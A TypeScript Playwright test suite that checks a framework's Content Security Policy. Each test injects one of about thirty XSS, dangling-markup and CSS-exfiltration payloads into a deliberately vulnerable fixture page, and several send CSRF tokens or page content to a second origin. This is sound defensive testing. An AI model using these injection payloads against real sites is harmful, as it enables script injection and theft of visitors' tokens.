/**
 * Injected markup in a page, in a real Chromium on the production build: each attack works without the policy and fails with it.
 * The fixture test/fixtures/attacked contains the holes.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { Browser, Page } from "playwright-core";
import { launchBrowser, openTab } from "./browser.ts";
import { startBuilt, type BuiltApp } from "./built-app.ts";
import { otherSite, type OtherSite } from "./other-site.ts";

let app: BuiltApp;
let browser: Browser;
let other: OtherSite;

before(async () => {
  app = await startBuilt("attacked");
  browser = await launchBrowser();
  other = await otherSite();
});
after(async () => {
  await browser?.close();
  await app?.close();
  await other?.close();
});

/** Each test has a timeout, so that a hanging attack is reported by name. */
const DEADLINE_MS = 30_000;

const FIRE = "(globalThis.fired??=[]).push(1)";

interface Attack {
  name: string;
  /** The text that the URL injects. */
  text: (remoteNodes: string) => string;
  /** Default: the page that writes the text as HTML. */
  path?: string;
  /** The action of the visitor. */
  act?: (page: Page) => Promise<unknown>;
  /** The prefix of the URL that a successful attack requests from the other site. Without it, success shows in the page. */
  asks?: string;
  /** The other site may get a request whose response is not used, because browsers preload what they parse. */
  isAskedInVain?: true;
  /** The directive that refuses the attack. */
  directive: string;
}

/** Clicks without waiting for a navigation, which may not happen. */
const press = (selector: string) => (page: Page) =>
  page.evaluate((found) => document.querySelector<HTMLElement>(found)?.click(), selector);

const ATTACKS: Attack[] = [
  { name: "an inline script", text: () => `<script>${FIRE}</script>`, directive: "script-src-elem" },
  {
    name: "an inline handler",
    text: () => `<img src="data:," onerror="${FIRE}">`,
    directive: "script-src-attr",
  },
  {
    name: "an inline handler in SVG",
    text: () => `<svg onload="${FIRE}">`,
    directive: "script-src-attr",
  },
  {
    name: "a script from the site's own uploads",
    text: () => `<script src="/uploads/a.js"></script>`,
    directive: "script-src-elem",
  },
  {
    name: "a module from the site's own uploads",
    text: () => `<script type="module">import "/uploads/a.js"</script>`,
    directive: "script-src-elem",
  },
  {
    name: "a script from another site",
    text: (remoteNodes) => `<script src="${remoteNodes}/a.js"></script>`,
    directive: "script-src-elem",
  },
  {
    name: "a script in SVG",
    text: () => `<svg><script href="/uploads/a.js" /></svg>`,
    directive: "script-src-elem",
  },
  {
    name: "a script that pretends to know a nonce",
    text: () => `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${FIRE}</script>`,
    directive: "script-src-elem",
  },
  {
    name: "an import map",
    text: (remoteNodes) =>
      `<script type="importmap">{"imports":{"/_svc/core.js":"${remoteNodes}/core.js"}}</script>` +
      `<script type="module">${FIRE}</script>`,
    directive: "script-src-elem",
  },
  {
    name: "a javascript: link",
    text: () => `<a id="bait" href="javascript:${FIRE};void 0">bait</a>`,
    act: press("#bait"),
    directive: "script-src-elem",
  },
  {
    name: "a javascript: form",
    text: () => `<form action="javascript:${FIRE};void 0"><button id="bait">bait</button></form>`,
    act: press("#bait"),
    directive: "form-action",
  },
  {
    name: "a frame with a document of its own",
    text: () => `<iframe srcdoc="<script>(parent.fired??=[]).push(1)</script>"></iframe>`,
    directive: "script-src-elem",
  },
  {
    name: "a base that moves the site's own scripts",
    text: (remoteNodes) => `<base href="${remoteNodes}/">`,
    isAskedInVain: true,
    directive: "base-uri",
  },
  {
    name: "a frame of another site",
    text: (remoteNodes) => `<iframe src="${remoteNodes}/frame"></iframe>`,
    asks: "/frame",
    directive: "frame-src",
  },
  {
    name: "an object",
    text: (remoteNodes) => `<object data="${remoteNodes}/object"></object>`,
    asks: "/object",
    directive: "object-src",
  },
  {
    name: "an embed",
    text: (remoteNodes) => `<embed src="${remoteNodes}/embed" type="text/html">`,
    asks: "/embed",
    directive: "object-src",
  },
  {
    name: "a form to another site",
    text: (remoteNodes) => `<form method="post" action="${remoteNodes}/form"><button id="bait">bait</button></form>`,
    act: press("#bait"),
    asks: "/form",
    directive: "form-action",
  },
  {
    name: "a form around the visitor's token",
    text: (remoteNodes) => `<form method="get" action="${remoteNodes}/token">`,
    act: press("button:not([id])"),
    asks: "/token?_csrf=",
    directive: "form-action",
  },
  {
    name: "an image whose address swallows what follows it",
    text: (remoteNodes) => `<img src='${remoteNodes}/dangling?`,
    // The first quote of its kind closes the address. Everything before it becomes part of the address.
    path: "/before-script",
    asks: "/dangling?",
    directive: "img-src",
  },
  {
    name: "a script that swallows the nonce of the one behind it",
    text: (remoteNodes) => `<script src="${remoteNodes}/a.js" x=`,
    path: "/before-script",
    isAskedInVain: true,
    directive: "script-src-elem",
  },
  {
    name: "a style that reads the token letter by letter",
    text: (remoteNodes) => `<style>[name=_csrf][value]{--x:1}form{background:url(${remoteNodes}/letter)}</style>`,
    asks: "/letter",
    directive: "style-src-elem",
  },
  {
    name: "a stylesheet of another site",
    text: (remoteNodes) => `<link rel="stylesheet" href="${remoteNodes}/a.css">`,
    asks: "/a.css",
    directive: "style-src-elem",
  },
  {
    name: "a style attribute that loads",
    text: (remoteNodes) => `<p style="background:url(${remoteNodes}/attribute)">bait`,
    asks: "/attribute",
    directive: "img-src",
  },
  {
    name: "a font that counts letters",
    text: (remoteNodes) =>
      `<svg><style>@font-face{font-family:f;src:url(${remoteNodes}/font)}button{font-family:f}</style></svg>`,
    asks: "/font",
    directive: "style-src-elem",
  },
  {
    name: "a film of another site",
    text: (remoteNodes) => `<video autoplay src="${remoteNodes}/film"></video>`,
    asks: "/film",
    directive: "media-src",
  },
  {
    name: "rules that fetch pages ahead",
    text: (remoteNodes) =>
      `<script type="speculationrules">{"prefetch":[{"urls":["${remoteNodes}/x"]}]}</script><script>${FIRE}</script>`,
    directive: "script-src-elem",
  },
  { name: "a script in an uploaded image", path: "/avatar.svg", text: () => "", directive: "script-src-elem" },
  { name: "eval in a script of the site", path: "/gadget?do=eval", text: () => FIRE, directive: "script-src" },
  {
    name: "new Function in a script of the site",
    path: "/gadget?do=function",
    text: () => FIRE,
    directive: "script-src",
  },
  {
    name: "a timer with a text in a script of the site",
    path: "/gadget?do=timeout",
    text: () => FIRE,
    directive: "script-src",
  },
  {
    name: "a script that a script of the site writes into the parser",
    path: "/gadget?do=write",
    text: () => `<script src="/uploads/a.js"></script>`,
    directive: "script-src-elem",
  },
  {
    name: "a handler in HTML that a script of the site makes",
    path: "/gadget?do=html",
    text: () => `<img src="data:," onerror="${FIRE}">`,
    directive: "script-src-attr",
  },
  {
    name: "a javascript: URL that a script of the site goes to",
    path: "/gadget?do=url",
    text: () => `javascript:${FIRE};void 0`,
    directive: "script-src-elem",
  },
  {
    name: "the registration of an upload as a service worker",
    text: () => `<script>navigator.serviceWorker.register("/uploads/a.js").then(()=>{${FIRE}})</script>`,
    directive: "script-src-elem",
  },
];

/** The number of a try. Each try has a URL prefix of its own. */
let tries = 0;

interface Try {
  url: URL;
  /** The prefix of all URLs that this try may request from the other site. */
  prefix: string;
}

function tryOf({ path = "/hole", text }: Attack): Try {
  const prefix = `/${++tries}`;
  const url = new URL(path, app.url);
  url.searchParams.set("x", text(other.origin + prefix));
  return { url, prefix };
}

const hasFired = (page: Page): Promise<boolean> => page.evaluate("Boolean(globalThis.fired)");

/** Opens the page without the policy. Ends when the attack has worked. */
async function works(attack: Attack): Promise<void> {
  const tab = await openTab(browser);
  const { page } = tab;
  const { url, prefix } = tryOf(attack);
  url.searchParams.set("policy", "off");
  const asked = attack.asks === undefined ? undefined : other.hit(prefix + attack.asks);
  await page.goto(url.href);
  await attack.act?.(page);
  if (asked) await asked;
  else await page.waitForFunction(() => (globalThis as { fired?: unknown }).fired);
  await tab.leave();
}

/** Opens the page with the policy: the browser reports the refusal, and the attack has no effect. */
async function isDead(attack: Attack): Promise<void> {
  const tab = await openTab(browser);
  const { page } = tab;
  const refused = page.waitForEvent("console", (message) =>
    message.text().startsWith(`CSP: ${attack.directive} refused`),
  );
  const { url, prefix } = tryOf(attack);
  await page.goto(url.href);
  await attack.act?.(page);
  await refused;
  // By this later task, the page has finished its work after the refusal.
  assert.equal(await hasFired(page), false);
  if (!attack.isAskedInVain)
    assert.deepEqual(
      other.hits.filter((hit) => hit.url.startsWith(`${prefix}/`)),
      [],
    );
  await tab.leave();
}

describe("injected markup", { concurrency: 4 }, () => {
  for (const attack of ATTACKS) {
    it(
      `${attack.name} works without the policy and is refused with it (${attack.directive})`,
      { timeout: DEADLINE_MS },
      async () => {
        await works(attack);
        await isDead(attack);
      },
    );
  }
});

/** Opens the page with this text in its hole, under its policy. */
async function inHole(text: string, story: (page: Page) => Promise<void>): Promise<void> {
  const tab = await openTab(browser);
  const url = new URL("/hole", app.url);
  url.searchParams.set("x", text);
  await tab.page.goto(url.href);
  await story(tab.page);
  await tab.leave();
}

describe("raw HTML with attributes of the resume protocol and names of document's members", () => {
  it("calls no handler of the page and hides nothing from scripts, on the server and in the browser", async () => {
    const tab = await openTab(browser);
    const { page } = tab;
    const open = (x: string) => page.goto(new URL(`/raw?x=${encodeURIComponent(x)}`, app.url).href);
    await open("");
    const scope = (await page.locator("#count").getAttribute("s")) ?? assert.fail();
    const members = ["querySelector", "querySelectorAll", "documentElement", "body", "getElementById", "createElement"];
    const images = members.map((name) => `<img name="${name}" alt="">`).join("");
    await open(`<p class="trap" s="${scope}"><b on:click="h0">trap</b></p>${images}`);
    const count = page.locator("#count");
    await page.locator(".trap b").first().click();
    await count.click();
    await page.locator("#again").click();
    await page.locator("#later i").waitFor();
    await page.locator("#later .trap b").click();
    await count.click();
    await page.locator("#count", { hasText: "2" }).waitFor();
    assert.equal(await page.locator("#later img").count(), members.length);
    await tab.close();
  });
});

describe("an element whose name a visitor chose", () => {
  const methods = "getAttribute closest parentNode setAttribute".split(" ");
  for (const name of ["querySelector", "documentElement", ...methods])
    it(`hides no member from the page's scripts: ${name}`, { timeout: DEADLINE_MS }, async () => {
      const tab = await openTab(browser);
      const { page } = tab;
      await page.goto(new URL(`/names?x=${name}`, app.url).href);
      await page.locator("#count").click();
      await page.locator("#again").click();
      await page.locator("#count").click();
      await page.locator("#count", { hasText: "2" }).waitFor();
      assert.equal(await page.locator("#form").getAttribute("title"), "h");
      await page.locator("img.created").waitFor({ state: "attached" });
      assert.equal(await page.locator(`:is(img, object):is([name="${name}"], [id="${name}"])`).count(), 0);
      await tab.close();
    });

  it("keeps names that hide nothing", { timeout: DEADLINE_MS }, async () => {
    const tab = await openTab(browser);
    await tab.page.goto(new URL("/names?x=title-of-book", app.url).href);
    await tab.page.locator("#again").click();
    await tab.page.locator('#live[name="title-of-book"] + object[name="title-of-book"]').waitFor({ state: "attached" });
    assert.equal(await tab.page.locator('[name="title-of-book"]').count(), 7);
    await tab.close();
  });
});

describe("injected markup in the syntax of the framework", () => {
  const scopes = {
    "a chunk that climbs": `<div s="1 ../../uploads/a"><b id="bait" on:click="h0">bait</b></div>`,
    "a chunk that climbs in code": `<div s="1 %2e%2e/.%2E/uploads/a"><b id="bait" on:click="h0">bait</b></div>`,
    "a part that climbs": `<div s="1 x ../uploads/a"><b id="bait" on:click="h0">bait</b></div>`,
    "a state that names modules elsewhere":
      `<script type="application/json" id="svc-state">` +
      `{"csrf_token":"","build":"","s":{"1":["x",0]},"v":[],"n":{"1":["../uploads/a"]}}</script><b id="bait"></b>`,
  };
  for (const [name, text] of Object.entries(scopes)) {
    it(`fetches no script from outside the framework's folder: ${name}`, { timeout: DEADLINE_MS }, () =>
      inHole(text, async (page) => {
        const scripts: string[] = [];
        page.on("request", (request) => {
          if (request.resourceType() === "script") scripts.push(new URL(request.url()).pathname);
        });
        const asked = page.waitForRequest(/uploads/);
        await press("#bait")(page);
        await press("#count")(page);
        await asked;
        assert.deepEqual(
          scripts.filter((path) => !path.startsWith("/_svc/")),
          [],
        );
        assert.equal(await hasFired(page), false);
      }),
    );
  }
});

describe("frames", () => {
  it("of another site don't show our page, unless the response allows it", { timeout: DEADLINE_MS }, async () => {
    const tab = await openTab(browser);
    const { page } = tab;
    other.serve("/lure-open", `<iframe src="${app.url}/hole?policy=off"></iframe>`);
    await page.goto(`${other.origin}/lure-open`);
    await page.frameLocator("iframe").locator("#count").waitFor();
    other.serve("/lure", `<iframe src="${app.url}/hole"></iframe>`);
    const refused = page.waitForEvent("console", (message) => /frame-ancestors|X-Frame-Options/.test(message.text()));
    await page.goto(`${other.origin}/lure`);
    await refused;
    assert.ok(page.frames().every((frame) => !frame.url().startsWith(app.url)));
    await tab.leave();
  });
});

describe("attacks that no policy stops", () => {
  it(
    "a refresh sends the visitor elsewhere, without revealing path or token there",
    { timeout: DEADLINE_MS },
    async () => {
      const asked = other.hit("/refreshed");
      await inHole(`<meta http-equiv="refresh" content="0;url=${other.origin}/refreshed">`, async () => {
        const { headers, url } = await asked;
        assert.equal(headers.referer, `${app.url}/`);
        assert.equal(url, "/refreshed");
        assert.equal(headers.cookie, undefined);
      });
    },
  );

  it("the nonce is in the page, but neither styles nor attributes reveal it", { timeout: DEADLINE_MS }, () =>
    inHole("", async (page) => {
      assert.deepEqual(
        await page.evaluate(() => [
          document.querySelectorAll("script[nonce]").length > 0,
          [...document.querySelectorAll("script[nonce]")].map((script) => script.getAttribute("nonce")).join(""),
        ]),
        [true, ""],
      );
    }),
  );
});
